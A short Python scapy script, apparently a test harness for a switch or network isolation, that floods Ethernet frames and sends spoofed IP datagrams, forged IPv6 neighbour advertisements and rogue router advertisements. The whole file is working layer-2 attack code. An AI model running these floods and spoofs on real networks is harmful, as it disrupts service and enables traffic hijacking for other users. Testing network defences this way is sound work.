#!/usr/bin/python3
"""attack.py INTERFACE KIND COUNT: sends frames of a kind through scapy's socket.

From 06:00:00:00:00:01:
sources   each from another address, for an address that nobody has
unknown   for an address that nobody has
mcast     for a group
bcast     for all
From 02:00:00:00:00:01, station 1, for all:
ip, ip6   datagrams from another's address
own       datagrams from its own
nd        neighbour advertisements that say that another's address is here
ra        router advertisements
"""

import errno
import struct
import sys
import time

from scapy.all import IP, UDP, Ether, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, IPv6, Raw, conf

SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
TARGETS = {"sources": "02:ff:ff:ff:ff:01", "unknown": "02:ff:ff:ff:ff:01", "mcast": "01:00:5e:01:02:03", "bcast": "ff:ff:ff:ff:ff:ff"}
STATION = "02:00:00:00:00:01"
PACKETS = {
    "ip": IP(src="10.1.0.2", dst="10.1.0.255") / UDP(sport=9, dport=9),
    "own": IP(src="10.1.0.1", dst="10.1.0.255") / UDP(sport=9, dport=9),
    "ip6": IPv6(src="fe80::2", dst="ff02::1") / UDP(sport=9, dport=9),
    "nd": IPv6(src="fe80::1", dst="ff02::1") / ICMPv6ND_NA(tgt="fe80::2", O=1) / ICMPv6NDOptDstLLAddr(lladdr=STATION),
    "ra": IPv6(src="fe80::1", dst="ff02::1") / ICMPv6ND_RA(),
}


def frame_of(kind: str) -> bytearray:
    """The first frame of a kind."""
    if kind in PACKETS:
        return bytearray(bytes(Ether(dst="ff:ff:ff:ff:ff:ff", src=STATION) / PACKETS[kind]))
    return bytearray(bytes(Ether(dst=TARGETS[kind], src="06:00:00:00:00:01", type=0x88B5) / Raw(b"\0" * 46)))


def main() -> None:
    """Sends them all, however long the interface takes."""
    interface, kind, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    socket = conf.L2socket(iface=interface)
    # Past the queueing discipline, which would not say when a frame is lost for want of room.
    socket.outs.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    frame = frame_of(kind)
    for number in range(count):
        if kind == "sources":
            frame[8:12] = struct.pack("!I", number + 2)
        while True:
            try:
                socket.outs.send(frame)
                break
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
                time.sleep(0.001)


main()
